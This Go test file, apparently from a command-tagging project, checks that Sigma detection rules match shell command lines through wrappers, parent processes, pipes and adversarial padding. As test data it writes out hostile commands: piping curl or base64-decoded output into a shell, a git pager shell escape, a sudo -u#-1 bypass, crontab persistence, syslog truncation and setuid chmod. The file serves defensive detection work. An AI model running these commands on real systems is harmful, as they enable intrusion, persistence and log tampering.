package tagger

import (
	"fmt"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/tagger/shell"
)

type sigmaCase struct {
	name, detection string
	hit, miss       []string
}

func checkSigma(t *testing.T, cases []sigmaCase) {
	t.Helper()
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			rs, report := loadSigma(sigmaRule(tt.detection))
			if len(report.Problems) > 0 || rs.Len() != 1 {
				t.Fatalf("load: %v", report.Problems)
			}
			for _, text := range tt.hit {
				if len(tagCommand(rs, text)) != 1 {
					t.Errorf("%q does not match", text)
				}
			}
			for _, text := range tt.miss {
				if tags := tagCommand(rs, text); len(tags) != 0 {
					t.Errorf("%q matches: %+v", text, tags[0].Match)
				}
			}
		})
	}
}

// TestSigmaWrappers: a wrapper is a process of its own, with its whole command line, and
// so is what it runs.
func TestSigmaWrappers(t *testing.T) {
	checkSigma(t, []sigmaCase{
		{"nohup", "sel:\n  Image|endswith: /nohup\ncondition: sel", []string{"nohup ./x &", "sudo nohup ./x", "nohup sh -c 'a; b' >/dev/null 2>&1 &", "(nohup ./x)"}, []string{"./nohup.sh", "echo nohup"}},
		{"nohup of a folder", "sel:\n  Image|endswith: /nohup\n  CommandLine|contains: /tmp/\ncondition: sel", []string{"nohup /tmp/x", "nohup nice bash '/tmp/x' &"}, []string{"nohup x; /tmp/x"}},
		{"doas", "sel:\n  Image|endswith: /doas\ncondition: sel", []string{"doas id", "doas -u root sh", "/usr/bin/doas id"}, []string{"sudo id"}},
		{"env", "sel:\n  Image|endswith: /env\n  CommandLine|endswith: /bin/bash\ncondition: sel", []string{"env /bin/bash", "env  -i /bin/bash", "/usr/bin/env A=b /bin/bash"}, []string{"/bin/bash", "env /bin/bash -x"}},
		{"nice", "sel:\n  Image|endswith: /nice\n  CommandLine|endswith:\n    - /bin/sh\n    - /bin/bash\ncondition: sel", []string{"nice /bin/sh", "nice -n 5 /bin/bash"}, []string{"/bin/sh", "nice ls"}},
		{"chroot", "sel:\n  Image|endswith: /chroot\ncondition: sel", []string{"chroot /mnt sh", "sudo chroot /mnt"}, nil},
		{"line of sudo", "sel:\n  CommandLine|startswith: 'sudo -u#-1'\ncondition: sel", []string{"sudo -u#-1 id"}, []string{"sudo -u root id"}},
		{"what is run", "sel:\n  Image|endswith: /id\n  CommandLine: id -u\ncondition: sel", []string{"sudo env A=b nohup id -u", "busybox id -u"}, []string{"sudo id -g"}},
		{"applet", "sel:\n  Image|endswith: /wget\ncondition: sel", []string{"busybox wget http://192.0.2.1/a", "/bin/busybox wget x"}, nil},
		{"busybox", "sel:\n  Image|endswith: /busybox\n  CommandLine|contains: ' wget '\ncondition: sel", []string{"/bin/busybox wget x"}, []string{"wget x"}},
		{"part of the shell", "sel:\n  Image|endswith:\n    - /command\n    - /exec\n    - /time\ncondition: sel", []string{"sudo time id", "/usr/bin/time id"}, []string{"exec id", "command id", "time id"}},
	})
}

// TestSigmaParents checks each program's parent: what replaces a wrapper has the wrapper's
// parent.
func TestSigmaParents(t *testing.T) {
	checkSigma(t, []sigmaCase{
		{"sudo", "sel:\n  ParentImage|endswith: /sudo\n  Image|endswith: /sh\ncondition: sel", []string{"sudo sh", "sudo nohup env A=b sh"}, []string{"sh", "sudo -l; sh", "nohup sh"}},
		{"in its place", "sel:\n  ParentImage|endswith: /bash\n  Image|endswith: /id\ncondition: sel", []string{"bash -c 'nohup nice id'", "echo id | bash"}, []string{"sudo id", "bash -c 'sudo id'"}},
		{"line", "sel:\n  ParentCommandLine: bash -i\n  CommandLine|contains: whoami\ncondition: sel", []string{"bash -i <<< whoami", "echo whoami -x | bash -i"}, []string{"bash -c whoami", "whoami"}},
		{"file", "sel:\n  ParentImage|startswith: /tmp/\n  Image|endswith: /id\ncondition: sel", []string{"printf '#!/bin/sh\\nid\\n' > /tmp/x; chmod +x /tmp/x; /tmp/x"}, []string{"printf '#!/bin/sh\\nid\\n' > /tmp/x", "/tmp/x; id"}},
		{"find", "sel:\n  ParentImage|endswith: /find\n  Image|endswith: /chmod\ncondition: sel", []string{"find / -exec chmod 777 {} \\;"}, nil},
		{"pager", "sel:\n  ParentImage|endswith: /git\n  ParentCommandLine|contains|all: [' -p ', help]\n  CommandLine|contains: 'sh 0<&1'\ncondition: sel", []string{`PAGER='sh -c "exec sh 0<&1"' git -p help`}, []string{"git -p help; sh 0<&1"}},
		{"su", "sel:\n  ParentImage|endswith: /su\n  CommandLine|contains: '| sh'\ncondition: sel", []string{"su -c 'curl x | sh'"}, []string{"curl x | sh"}},
	})
}

// TestSigmaTexts: a text with pipes, lists and redirections is the argument of a shell,
// and not a program.
func TestSigmaTexts(t *testing.T) {
	piped := "sel:\n  CommandLine|contains: 'base64 '\nexec:\n  - CommandLine|contains: ['| sh ', '|bash ']\n  - CommandLine|endswith: ['| sh', '|sh', '| bash']\ncondition: all of them"
	given := "sel:\n  CommandLine|startswith: ['sh -c ', 'bash -c ']\nexec:\n  CommandLine|endswith: ['| sh', '| bash']\ncondition: all of them"
	checkSigma(t, []sigmaCase{
		{"pipe", piped, []string{"echo aWQ= | base64 -d | sh", "echo aWQ=|base64 -d|sh", "echo aWQ= | base64 -d | sh -s", "x=1; echo aWQ= | base64 -d | bash\n", "bash -c 'echo aWQ= | base64 -d | sh'"}, []string{"base64 -d x", "echo aWQ= | base64 -d > sh"}},
		{"given", given, []string{"curl 192.0.2.1 | sh", "ls; curl 192.0.2.1 | bash", "sh -c 'curl 192.0.2.1 | sh'", "su root -c 'curl 192.0.2.1 | sh'"}, []string{"curl 192.0.2.1; sh", "sh -c ls", "ls | sort"}},
		{"append", "sel:\n  CommandLine|contains: '>> /etc/crontab'\ncondition: sel", []string{"echo '* * * * * x' >> /etc/crontab", "( id; ls ) >> /etc/crontab"}, []string{"cat /etc/crontab"}},
		{"truncate", "sel:\n  CommandLine|contains:\n    - '> /var/log/syslog'\n    - '>/var/log/syslog'\ncondition: sel", []string{"> /var/log/syslog", "echo >/var/log/syslog", "cat /dev/null > /var/log/syslog"}, []string{"cat /var/log/syslog"}},
		{"list", "a:\n  CommandLine|contains: chown root\nb:\n  CommandLine|contains: ' chmod u+s'\ncondition: a and b", []string{"chown root /tmp/x; chmod u+s /tmp/x", "chown root:root x && chmod u+s x"}, []string{"chown root /tmp/x", "sudo chmod u+s /tmp/x"}},
		{"assignment", "sel:\n  CommandLine|contains: http_proxy=\ncondition: sel", []string{"http_proxy=http://192.0.2.1:1/ curl x", "export http_proxy=http://192.0.2.1:1/", "http_proxy=x"}, nil},
		{"decoded", piped, []string{"echo ZWNobyBhV1E9IHwgYmFzZTY0IC1kIHwgc2g= | base64 -d | bash"}, nil},
		{"any shell", "sel:\n  Image|endswith: [/bash, /sh]\ncondition: sel", []string{"bash x", "ls; sh"}, []string{"id; ls > x"}},
		{"given alone", "sel:\n  CommandLine|startswith: 'sh -c '\ncondition: sel", []string{"sh -c id", "ls; sh -c id"}, []string{"id; ls", "id > x"}},
		{"any option", "sel:\n  CommandLine|contains: ' -c '\ncondition: sel", []string{"ls; wc -c x"}, []string{"id; ls"}},
		{"excepted", "sel:\n  CommandLine|contains: update\nfilter:\n  Image|endswith: /apt\ncondition: sel and not filter", []string{"yum update; true", "apt update; yum update"}, []string{"apt update; true", "apt update"}},
		{"nothing but exceptions", "sel:\n  Image|endswith: /id\ncondition: not sel", []string{"ls"}, []string{"id", "id > x"}},
		{"one program", "sel:\n  ParentImage: null\n  Image: null\n  CommandLine|contains: id\ncondition: sel", []string{"id > x", "id; ls"}, []string{"id -u", "id"}},
		{"in capitals", "sel:\n  CommandLine|startswith: 'bash -c echo x'\ncondition: sel", []string{"ECHO X | SH"}, []string{"echo y | sh"}},
		{"too long for an argument", "sel:\n  CommandLine|contains: '| sh'\ncondition: sel", []string{"curl x | sh;" + strings.Repeat("a", 100<<10)}, []string{"curl x | sh;" + strings.Repeat("a", 200<<10)}},
	})
}

// TestSigmaSameWithoutIndex: with the index, a rule for processes matches everything that
// it matches without.
func TestSigmaSameWithoutIndex(t *testing.T) {
	texts := []string{
		"curl x | sh", "sudo nohup  ./x &", "echo a >> /etc/crontab", "su -c 'curl x | sh'", "busybox wget x|sh", "A=b ls", "env -S 'sh -c id'", "W\"G\"ET x",
		"/bin/busybox  WGET 'a b' | sudo sh", "echo Y3VybCB4IHwgc2g= | base64 -d | bash", "find . -exec sh -c 'id; ls' \\;", "bash -c \"curl x | sh\"",
	}
	matched := 0
	for _, test := range []string{
		"Image|endswith: /nohup", "Image: /usr/bin/wget", "CommandLine|startswith: 'sh -c curl'", "CommandLine|contains: ' | sh'", "CommandLine|startswith: 'bash -c e'",
		"ParentImage|endswith: /su", "ParentCommandLine|contains: ' -c curl'", "CommandLine|re: 'c [cw]'", "CommandLine|endswith: ./x", "ParentImage|contains: find", "CommandLine|contains: 'c a'",
	} {
		rs, report := loadSigma(sigmaRule("sel:\n  " + test + "\ncondition: sel"))
		if rs.Len() != 1 {
			t.Fatal(report.Problems)
		}
		parser := shell.NewParser(shell.Limits{})
		parser.Processes = true
		for _, text := range texts {
			_, want, _ := plainRule(newRunnable(rs.defs[0], ttpcron.Command, rs.defs[0].Claims), text, parser.Parse(text))
			if got := len(tagCommand(rs, text)) > 0; got != want {
				t.Errorf("%s: %q: with the index %v, without %v", test, text, got, want)
			} else if got {
				matched++
			}
		}
	}
	if matched < 20 {
		t.Errorf("only %d matches", matched)
	}
}

// TestNativeRulesBesideSigma: rules for commands match the same whether or not processes
// are listed.
func TestNativeRulesBesideSigma(t *testing.T) {
	listing := shell.NewParser(shell.Limits{})
	listing.Processes = true
	for name, all := range texts(t) {
		for i := 0; i < len(all); i += 17 {
			plain, listed := shell.NewParser(shell.Limits{}).Parse(all[i]), listing.Parse(all[i])
			listed.Processes = nil
			if plain.Bounded = listed.Bounded; !reflect.DeepEqual(plain, listed) {
				t.Fatalf("%s: %q", name, all[i])
			}
		}
	}
}

// TestSigmaHostile: many wrappers around many commands cost no more than other texts.
func TestSigmaHostile(t *testing.T) {
	files := fstest.MapFS{}
	for i, test := range []string{
		"CommandLine|contains: 'x%d| sh'", "Image|endswith: /n%dohup", "ParentCommandLine|contains: 'SUDO %d'", "CommandLine|startswith: 'sh -c %d'", "ParentImage|endswith: /sudo%d",
		"CommandLine|re: 's(u|d)+o.*%d$'", "CommandLine|contains|all: [sudo, nohup, '%d|']",
	} {
		for j := range 20 {
			rule := strings.Replace(sigmaRule("sel:\n  "+fmt.Sprintf(test, j)+"\nfilter:\n  CommandLine|contains: never\ncondition: sel and not filter"), "000000000001", fmt.Sprintf("%012d", i*20+j), 1)
			files[fmt.Sprintf("%d.yml", i*20+j)] = &fstest.MapFile{Data: []byte(rule)}
		}
	}
	rs, report := Load(Options{Releases: sigmaReleases, Folders: []Folder{{Name: "hostile", FS: files}}})
	if rs.Len() != len(files) {
		t.Fatal(report.Problems)
	}
	const size = 1 << 20
	wrappers := strings.Repeat("sudo nohup env nice ", 4)
	c := rs.Tagger(nil)
	for name, text := range map[string]string{
		"wrappers":           strings.Repeat(wrappers+"x;", 4096),
		"wrappers in 1 MiB":  strings.Repeat(wrappers+"x y|", size/(len(wrappers)+4)),
		"capitals":           strings.Repeat(strings.ToUpper(wrappers)+"SUDO X;", size/(len(wrappers)+7)),
		"blanks":             strings.Repeat(strings.ReplaceAll(wrappers, " ", "  ")+"X;", 4096),
		"quotes":             strings.Repeat(strings.ReplaceAll(wrappers, "o", "'o'")+"X;", 4096),
		"one command":        wrappers + "x " + strings.Repeat("SUDO 1 ", size/7),
		"one quoted command": strings.ReplaceAll(wrappers, " ", "  ") + "x " + strings.Repeat("'SUDO' 1 ", size/9),
		"texts in texts":     strings.Repeat("su -c 'X|sh; sudo Y > z';", 4096),
		"pagers":             strings.Repeat("PAGER='X | sh' git x;", size/21),
		"argument":           strings.Repeat("X | sh;", (128<<10)/7),
	} {
		if cost := tagging(c)(text); cost.allocated > mostAllocated {
			t.Errorf("%s: %v", name, cost)
		}
	}
}

// TestSigmaUnhidden: commands with many wrappers, in capitals, do not hide the commands
// that follow.
func TestSigmaUnhidden(t *testing.T) {
	rs, report := loadSigma(sigmaRule("sel:\n  CommandLine: /tmp/evil x\ncondition: sel"))
	if rs.Len() != 1 {
		t.Fatal(report.Problems)
	}
	around := strings.Repeat("sudo nohup env nice ", 4)
	for _, padding := range []string{
		strings.Repeat(around+"A;", 1500), strings.Repeat(around+strings.Repeat("Ab ", 50)+";", 400), strings.Repeat("'su'do  "+around+"A  B;", 1300),
		strings.Repeat("PAGER=A git x;", 4000),
	} {
		if len(tagCommand(rs, padding+"/tmp/EVIL x")) != 1 {
			t.Errorf("hidden behind %d bytes of %.60q", len(padding), padding)
		}
	}
}

// TestSigmaRulesSameWithoutIndex holds the same of the rules of testdata, on a sample of
// all texts.
func TestSigmaRulesSameWithoutIndex(t *testing.T) {
	rs, report := Load(Options{Releases: sigmaReleases, Folders: []Folder{{Name: "sigma", FS: os.DirFS("testdata/sigma")}}})
	var rules []*runnable
	for _, d := range rs.defs {
		if len(d.Claims) > 0 {
			rules = append(rules, newRunnable(d, ttpcron.Command, d.Claims))
		}
	}
	if len(rules) < 45 {
		t.Fatal(report.Problems)
	}
	c, parser := rs.Tagger(nil), shell.NewParser(shell.Limits{})
	parser.Processes = true
	step := 7
	if testing.Short() {
		step = 70
	}
	for name, all := range texts(t) {
		matched := 0
		for i := 0; i < len(all); i += step {
			tags, v := c.Tag(commandEvent(all[i]), nil)
			got, script := rulesOf(tags), parser.Parse(all[i])
			var want []string
			for _, r := range rules {
				if _, ok, met := plainRule(r, all[i], script); ok && !met {
					want = append(want, r.ID)
				}
			}
			if !v.Bounded && !slices.Equal(slices.Compact(got), want) {
				t.Errorf("%s: %q: with the index %v, without %v", name, all[i], got, want)
			}
			matched += len(want)
		}
		t.Logf("%s: %d matches", name, matched)
	}
}
